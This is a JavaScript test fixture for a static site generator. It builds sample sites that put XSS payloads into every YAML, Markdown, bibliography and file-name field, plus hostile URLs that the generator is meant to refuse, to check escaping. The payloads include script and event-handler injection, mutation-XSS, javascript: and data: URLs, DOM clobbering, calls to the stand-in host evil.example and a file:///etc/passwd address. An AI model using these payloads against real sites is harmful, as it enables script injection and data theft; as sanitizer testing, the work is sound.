// What a hostile author might write, and every place where it may be written. Each attack that comes off calls `hit`, or
// asks the host `evil.example` for something.

const RUN = "hit('ran')";

// Words for every place that takes words: each tries to leave one kind of text that a page is made of.
export const WORDS = [
  `<script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `" onmouseover="${RUN}" onfocus="${RUN}" autofocus x="`,
  `' onmouseover='hit(1)' x='`,
  'x onpointerover=hit(1) y',
  `</title></head><body onload=${RUN}>`,
  `</script><script>${RUN}</script>`,
  `<!--<script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script><![CDATA[`,
  `</style></noscript></template></textarea></iframe><script>${RUN}</script>`,
  `</svg></math><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;&#x22;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `javascript:${RUN}`,
  `[x](javascript:hit(1)) <javascript:hit(1)> ![x](//evil.example/p.png)`,
  `\\"-${RUN}-\\"; '-${RUN}-'; \${${RUN}} \`${RUN}\``,
  '\u2028;hit(1);\u2029 \\u003cscript>hit(1)\\u003c/script>',
  '{{ hit }} {% include "404.html" %} {{ "<script>hit(1)</script>" | safe }} {# x #}',
  '+ADw-script+AD4-hit(1)+ADw-/script+AD4-',
  'x\r\nER  - \r\nTY  - JOUR\n}\n@book{x, title={y}}\n',
  'x;background:url(//evil.example/p.png);x:expression(hit(1))',
  '\u202e<script>hit(1)</script>\u2066 \u200b\u0000\u0007\u001b[31m',
  '<a href=//evil.example/>x</a><link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit(1)&gt;">',
];

// Addresses that must lead nowhere, and pictures that must ask nobody.
export const ADDRESSES = [
  'javascript:hit(1)', 'JaVaScRiPt:hit(1)', 'javascript&colon;hit(1)', '&#106;avascript:hit(1)', 'java\tscript:hit(1)', '\u0001javascript:hit(1)',
  'javascript://x.example/%0Ahit(1)', 'vbscript:hit(1)', 'data:text/html,%3Cscript%3Ehit(1)%3C/script%3E', 'data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=',
  'data:image/svg+xml,%3Csvg%20onload=hit(1)%3E', 'blob:x', 'filesystem:x', 'view-source:javascript:hit(1)', 'file:///etc/passwd',
  '//evil.example/', '\\\\evil.example/', '/\\evil.example/', '/\t/evil.example/', 'feed:javascript:hit(1)', 'jar:javascript:hit(1)', 'about:srcdoc',
];

// HTML of an author's own. Each is a text by itself.
export const HTML = [
  `<script>${RUN}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, '<script/x>hit(1)</script/x>', '<scr<script>ipt>hit(1)</scr</script>ipt>', '<<script>hit(1)//<</script>',
  '<img src=x onerror=hit(1)>', '<img src="x"onerror="hit(1)">', '<img/src=x/onerror=hit(1)>', '<img src=x:x onerror=hit(1)', '<img srcset="//evil.example/p.png 1x">', '<img src=//evil.example/p.png>',
  '<img src="/\\evil.example/p.png">', '<img src=/\\evil.example/p.png>', '<img src=\\\\evil.example/p.png>', '<img src=/&Tab;/evil.example/p.png>', '<img src=&#1;//evil.example/p.png>', '<img src=ht&Tab;tps://evil.example/p.png>', '<a href=/\\evil.example/>x</a>', '<img src="\\\\evil.example/p.png">', '<img src="/\t/evil.example/p.png">', '<img src=" //evil.example/p.png">', '<img src="&#47;&#47;evil.example/p.png">',
  '<picture><source srcset="//evil.example/p.png"><img src="x"></picture>', '<video src=//evil.example/v poster=//evil.example/p.png autoplay onplay=hit(1)></video>', '<audio src=x onerror=hit(1)></audio>',
  '<video><source onerror=hit(1) src=x></video>', '<input type=image src=//evil.example/p.png onerror=hit(1)>', '<body onload=hit(1) background=//evil.example/p.png>', '<table background=//evil.example/p.png><tr><td>x</td></tr></table>',
  '<svg onload=hit(1)></svg>', '<svg><script>hit(1)</script></svg>', '<svg><script href=//evil.example/x.js /></svg>', '<svg><a xlink:href="javascript:hit(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><animate onbegin=hit(1) attributeName=x dur=1s></svg>', '<svg><set attributeName=href to=javascript:hit(1)></svg>', '<svg><image href=//evil.example/p.png /></svg>', '<svg><use href="data:image/svg+xml,x#y"/></svg>',
  '<svg><style><img src=x onerror=hit(1)></style></svg>', '<svg><title><style></title><img src=x onerror=hit(1)></style></svg>', '<svg></p><style><a id="</style><img src=x onerror=hit(1)>">', '<svg><foreignObject><iframe srcdoc="<script>parent.hit(1)</script>"></foreignObject></svg>',
  '<math href="javascript:hit(1)">x</math>', '<math><maction actiontype="statusline" xlink:href="javascript:hit(1)">x</maction></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=hit(1)></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit(1)&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>', '<math><mi><table><mglyph><svg><mtext><style><path id="</style><img onerror=hit(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=hit(1)>"></noscript>', '<style>@import "//evil.example/x.css";</style>', '<style><!--</style><img src=x onerror=hit(1)>-->', '<p style="background:url(//evil.example/p.png)">x</p>', '<xmp><p title="</xmp><img src=x onerror=hit(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=hit(1)>"></textarea>', '<title><p title="</title><img src=x onerror=hit(1)>"></title>', '<template><script>hit(1)</script><img src=x onerror=hit(1)></template>', '<template shadowrootmode=open><img src=x onerror=hit(1)></template>',
  '<iframe src=//evil.example/></iframe>', '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>', '<iframe src="javascript:parent.hit(1)"></iframe>', '<object data=//evil.example/x></object>', '<embed src="javascript:hit(1)">', '<applet code=x></applet>', '<frameset onload=hit(1)><frame src=//evil.example/></frameset>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">', '<meta http-equiv=refresh content="0;url=javascript:hit(1)">', '<base href=//evil.example/>', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=prefetch href=//evil.example/x>', '<link rel=import href=//evil.example/x>',
  '<form action="javascript:hit(1)"><button>x</button></form>', '<form action=//evil.example/><input name=a autofocus onfocus=hit(1)><button formaction="javascript:hit(1)">x</button></form>', '<button onclick=hit(1) popovertarget=p1>x</button>', '<isindex type=image src=x onerror=hit(1)>', '<select onfocus=hit(1) autofocus></select>',
  '<a href="javascript:hit(1)">x</a>', '<a href=javascript:hit(1)>x</a>', '<a href="&#x6A&#x61vascript:hit(1)">x</a>', '<a href="java&Tab;script:hit(1)">x</a>', '<a href=" &#1; javascript:hit(1)">x</a>', '<a href="x" ping="//evil.example/">x</a>', '<a href="x"onmouseover="hit(1)">x</a>', '<a href="data:text/html,<script>hit(1)</script>">x</a>',
  '<area href="javascript:hit(1)" shape=default>', '<details open ontoggle=hit(1)><summary>x</summary></details>', '<marquee onstart=hit(1)>x</marquee>', '<bgsound src="javascript:hit(1)">', '<keygen autofocus onfocus=hit(1)>', '<p onmouseover=hit(1) tabindex=1 onfocus=hit(1) id=x>x</p>', '<div contenteditable onfocus=hit(1) autofocus>x</div>',
  '<p style="animation-name:x" onanimationstart=hit(1)>x</p>', '<q cite="javascript:hit(1)">x</q>', '<blockquote cite="javascript:hit(1)">x</blockquote>', '<del cite="javascript:hit(1)">x</del>', '<!--><img src=x onerror=hit(1)>-->', '<!-- --!><img src=x onerror=hit(1)> -->', '<!----!><img src=x onerror=hit(1)>', '<![CDATA[<img src=x onerror=hit(1)>]]>',
  '<?xml-stylesheet href="javascript:hit(1)"?><img src=x onerror=hit(1)>', '</p><img src=x onerror=hit(1)>', '<p title="`x`"><img alt="``onerror=hit(1)">', '<p id="x" id=y class="</p><script>hit(1)</script>">x</p>', '<p data-copy="x" hidden data-x=\'"><script>hit(1)</script>\'>x</p>', '<p title=\'"><img src=x onerror=hit(1)>\'>x</p>',
  '<a href="actor:a0" title=\'"><img src=x onerror=hit(1)>\'>x</a>', '<img src="pic.png" alt=\'"><img src=x onerror=hit(1)>\'>', '<a href="https://x.example/"><a href="javascript:hit(1)">x</a></a>', '<time datetime=\'"><script>hit(1)</script>\'>x</time>', '\ufdd00\ufdd1<b title="\ufdd00\ufdd1">x</b>', '<b title="&#xfdd0;0&#xfdd1;">x</b>',
  '<gloss-live data-x="1"><p>x</p></gloss-live>', '<script type=module data-gloss>hit(1)</script>', '<a id=location href="https://x.example/">x</a><a name=document>x</a>', '<input name=attributes><form id=body><input name=innerHTML></form>', '<p>x <svg><p><style><!--</style><a title="--></p><img src=x onerror=hit(1)>">',
];

const y = JSON.stringify; // Text in double quotes is YAML, too.
// Markdown that shows these words: every sign is escaped, and line breaks are spaces.
const shown = words => words.replace(/[\r\n]+/g, ' ').replace(/[\0\u0007\u001b]/g, '').replace(/[!-/:-@[-`{-~]/g, '\\$&');
const bare = words => words.replace(/[\r\n\0]+/g, ' ');
const inUrl = words => encodeURIComponent(words.replace(/[\ud800-\udfff]/g, '')).replace(/[()']/g, sign => `%${sign.charCodeAt(0).toString(16)}`);
const fenced = words => bare(words).replace(/`/g, "'");

// A site without an error, that has each of the words in every place that takes words.
export function soundSite({ style } = {}) {
  const files = {
    'site.yaml': [
      `title: ${y(WORDS[0])}`, `description: ${y(WORDS[1])}`, 'base_url: https://site.example/', 'languages: [en, ar]', `license: ${y(WORDS[2])}`,
      `publisher: {name: ${y(WORDS[7])}, url: "https://pub.example/'\\"><script>hit(1)</script>"}`, 'bibliography: [refs.bib, refs.json, refs.yml]',
      `menu: [{title: ${y(WORDS[3])}, url: /reports/}, {title: ${y(WORDS[4])}, url: "https://menu.example/'\\"><script>hit(1)</script>"}]`, `extra: {x: ${y(WORDS[0])}}`,
      'wikilinks: true', 'autolink: all', 'markdown: {math: true}', style ? `citations: {style: ${style}}` : '', 'feed: {id: "x.example,2019"}',
    ].join('\n'),
    'i18n/en.ftl': `heading-sources = ${WORDS[0]}\nreports = ${WORDS[1]}\nsearch-placeholder = ${WORDS[3]}\n`,
    'refs.bib': WORDS.map((words, n) => `@book{b${n}, title = {{${tex(words)}} \\emph{${tex(words)}}}, author = {{${tex(words)}}}, publisher = {${tex(words)}}, note = {${tex(words)}}, date = {2010}}`).join('\n'),
    'refs.json': y(WORDS.map((words, n) => ({
      id: `j${n}`, type: 'book', title: `<i>x</i> ${words}`, 'container-title': words, abstract: words, note: words, page: words, DOI: words, author: [{ family: words, given: words }, { literal: words }], issued: { 'date-parts': [[2010]] },
    }))),
    'refs.yml': WORDS.map((words, n) => `h${n}:\n  type: book\n  title: ${y(unbraced(words))}\n  author: [${y(unbraced(words))}]\n  publisher: ${y(unbraced(words))}\n  date: 2010\n`).join(''),
    'content/about.md': `---\ntitle: ${y(WORDS[1])}\nsummary: ${y(WORDS[5])}\n---\n\n## ${shown(WORDS[1])}\n\nText.\n`,
  };
  WORDS.forEach((words, n) => Object.assign(files, ofWords(words, n)));
  HTML.forEach((html, n) => {
    files[`content/reports/html${n}.md`] = `---\ntitle: HTML ${n}\ndate: 2015-01-01\n---\n\nWithin ${html} words.\n\n${html}\n\nIn a note.[^a] | x |\n\n[^a]: ${bare(html)}\n\n- ${bare(html)}\n\n## ${bare(html)}\n\n> ${bare(html)}\n\nThe end.\n`;
  });
  files['content/reports/pic.png'] = PICTURE;
  return files;
}

function ofWords(words, n) {
  const w = y(words), person = `{given: ${w}, family: ${w}}`;
  const text = [
    `Words of a claim: ${shown(words)}. Then [${shown(words)}](actor:a${n}) and [](actor:b${n}), on [${shown(words)}](date:2014-01-02), in [](source:s${n}).`,
    `[@s${n}, p. ${shown(words)}] [see ${shown(words)} @b${n}, ${shown(words)}] [@j${n}, {${shown(words)}}] [-@h${n}] [@d${n}]`,
    `A note.[^n] ![${shown(words)}](pic.png ${title(words)}) [x](https://x.example/?q=${inUrl(words)} ${title(words)}) [y](mailto:x@x.example?subject=${inUrl(words)})`,
    `A [word](redact:${inUrl(words)}) and [a quotation ${shown(words)}](quote:s${n}), [[a${n}|${shown(words)}]], $x ${fenced(words).replace(/[$\\]/g, '')}$, \`${fenced(words)}\`, ~~${shown(words)}~~.`,
    `## ${shown(words)}`, `## Own {#${attribute(words)}x .${attribute(words)} title=${attribute(words)}}`,
    `\`\`\`${fenced(words)}\n${bare(words)}\n\`\`\``, `\`\`\`html\n${bare(words)}\n\`\`\``, `    ${bare(words)}`,
    `> ${shown(words)}\n> — [${shown(words)}](actor:a${n}), [@s${n}, {${shown(words)}}]`, `> [!NOTE]\n> ${shown(words)}`,
    `| ${shown(words)} | b |\n|---|---|\n| ${shown(words)} | [x](actor:a${n}) |`, `${shown(words)}\n: ${shown(words)}`, `- [ ] ${shown(words)}`,
    `[^n]: ${shown(words)} [@s${n}]`, `[ref]: https://x.example/ ${title(words)}`, `A [ref] ${bare(words).replace(/\]\(/g, '] (').replace(/<javascript:/g, '< javascript:')}`,
  ].join('\n\n');
  const front = [
    `title: ${w}`, 'date: 2014-01-01', `summary: ${w}`, `authors: [${w}, {name: ${w}}]`, `tags: [${w}, t${n}]`, 'image: pic.png', `image_alt: ${w}`, `extra: {x: ${w}}`, `redirects: [${y(`/old-${n}/${fileName(words)}/`)}]`,
    `actors: [{id: a${n}, role: ${w}}, {id: b${n}, name: ${w}, role: ${w}}]`, `dates: [{date: 2014-01-02, label: ${w}, actors: [a${n}], sources: [s${n}]}, {date: 2013, label: ${w}}, {date: 2012/2014-03, label: ${w}}]`,
    `claims: [{quote: ${y(bare(words).replace(/[\u0007\u001b]/g, ''))}, by: [a${n}], status: disputed, sources: [s${n}]}]`, `corrections: [{date: 2014-02-01, text: ${w}}]`,
    `sources: [s${n}, {id: d${n}, title: ${w}, author: [${w}, ${person}], editor: ${w}, publisher: ${w}, container: ${w}, number: ${w}, place: ${w}, note: ${w}, edition: ${w}, genre: ${w}, page: ${w}, ISBN: ${w}, DOI: ${w}, abstract: ${w}, title-short: ${w}, url: ${y(`https://x.example/?q=${inUrl(words)}&'<>"`)}, extra: {x: ${w}}}]`,
  ].join('\n');
  return {
    [`content/reports/r${n}.md`]: `---\n${front}\n---\n\n${text}\n`,
    [`content/reports/w${n}.md`]: `---\ntitle: ${w}\ndate: 2014-01-01\nstatus: withdrawn\nreason: ${w}\n---\n\nx\n`,
    [`content/reports/named ${fileName(words)} ${n}.md`]: `---\ntitle: Named ${n}\ndate: 2014-01-01\ntags: [x]\n---\n\n## Heading\n\n[a](actor:a${n})\n`,
    [`content/reports/r${n}.ar.md`]: `---\ntitle: ${w}\n---\n\n${shown(words)}\n`,
    [`content/actors/a${n}.md`]: `---\nname: ${w}\nkind: person\nnames: [{name: ${y(`2 ${words}`)}, lang: ar}, ${y(`3 ${words}`)}]\nroles: [{role: ${w}, of: b${n}, from: 2011, sources: [s${n}]}]\nids: {wikidata: ${w}, viaf: ${w}, ? ${w} : ${w}}\nsummary: ${w}\nimage: ../reports/pic.png\nimage_alt: ${w}\n---\n\n${shown(words)}\n`,
    [`content/sources/s${n}.md`]: `---\ntype: report\ntitle: ${w}\nauthor: [${w}, ${person}, a${n}]\npublisher: ${w}\ncontainer: ${w}\nnumber: ${w}\nplace: ${w}\nnote: ${w}\nlang: en\nurl: ${y(`https://x.example/'"><script>hit(1)</script>/${n}`)}\narchive: ${y(`https://y.example/'"><script>hit(1)</script>/${n}`)}\n---\n\n${shown(words)}\n`,
  };
}

// What may stand in the braces of a heading.
const attribute = words => words.replace(/[^!-z]|[{}[\]\s]|<(?=javascript)/g, '');
const title = words => `"${shown(words)}"`;
// What may stand in the name of a file that is a page.
const fileName = words => words.replace(/[/\\:*?"<>|#%\s\0-\x1f\u200b-\u202e\u2060-\u2069]/g, ' ').trim().slice(0, 60);
const tex = words => bare(words).replace(/[\\{}%$&#_^~]/g, '');
// Braces are markup in Hayagriva's YAML.
const unbraced = words => words.replace(/[{}]/g, '');
const PICTURE = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=', 'base64');

// A site whose every report is refused, for an address that would run or ask for something.
export function refusedSite() {
  const files = { 'site.yaml': 'title: Refused\nbase_url: https://site.example/\n', 'content/actors/a0.md': '---\nname: A\n---\n' };
  ADDRESSES.forEach((address, n) => {
    const forms = [`[x](<${address}>)`, `![x](<${address}>)`, `<a href="${address}">x</a>`, `<img src="${address}">`, `[r]\n\n[r]: <${address}>`];
    forms.forEach((form, m) => { files[`content/reports/r${n}-${m}.md`] = `---\ntitle: ${n} ${m}\ndate: 2014-01-01\n---\n\nText ${form}\n`; });
    files[`content/reports/s${n}.md`] = `---\ntitle: S\ndate: 2014-01-01\nsources: [{id: s${n}, title: S, url: ${y(address)}}, {id: t${n}, title: S, archive: ${y(address)}}]\nredirects: [${y(address)}]\n---\n\n[@s${n}; @t${n}]\n`;
  });
  return files;
}
